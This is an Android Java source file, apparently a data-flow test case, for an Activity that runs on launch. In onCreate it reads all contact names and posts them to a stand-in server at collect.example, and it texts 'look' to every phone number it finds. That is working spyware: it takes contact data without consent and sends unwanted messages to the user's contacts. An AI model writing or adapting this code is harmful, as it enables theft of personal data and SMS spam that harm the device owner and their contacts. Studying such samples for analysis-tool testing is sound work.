package org.example.flows.phone;

import android.app.Activity;
import android.content.ContentResolver;
import android.database.Cursor;
import android.os.AsyncTask;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.telephony.SmsManager;
import java.util.ArrayList;
import java.util.List;
import org.apache.http.NameValuePair;
import org.apache.http.client.HttpClient;
import org.apache.http.client.entity.UrlEncodedFormEntity;
import org.apache.http.client.methods.HttpPost;
import org.apache.http.impl.client.DefaultHttpClient;
import org.apache.http.message.BasicNameValuePair;

/** Two loops of cursors; names go to a server, numbers get a message each. */
public class Contacts extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Upload().execute();
    }

    class Upload extends AsyncTask<Void, String, Void> {
        @Override
        protected Void doInBackground(Void... nothing) {
            List<NameValuePair> pairs = new ArrayList<NameValuePair>();
            ContentResolver resolver = getContentResolver();
            Cursor people = resolver.query(
                    ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
            while (people.moveToNext()) {
                String id = people.getString(people.getColumnIndex("_id"));
                String name = people.getString(people.getColumnIndex("display_name"));
                pairs.add(new BasicNameValuePair("name", name));
                numbers(resolver, id);
            }
            try {
                HttpPost post = new HttpPost("http://collect.example/people");
                post.setEntity(new UrlEncodedFormEntity(pairs));
                HttpClient client = new DefaultHttpClient();
                client.execute(post);
            } catch (Exception problem) {
                cancel(true);
            }
            return null;
        }

        private void numbers(ContentResolver resolver, String id) {
            Cursor numbers = resolver.query(
                    ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
                    null, "contact_id = ?", new String[] {id}, null);
            while (numbers.moveToNext()) {
                publishProgress(numbers.getString(numbers.getColumnIndex("data1")));
            }
        }

        @Override
        protected void onProgressUpdate(String... number) {
            SmsManager.getDefault().sendTextMessage(number[0], null, "look", null, null);
        }
    }
}
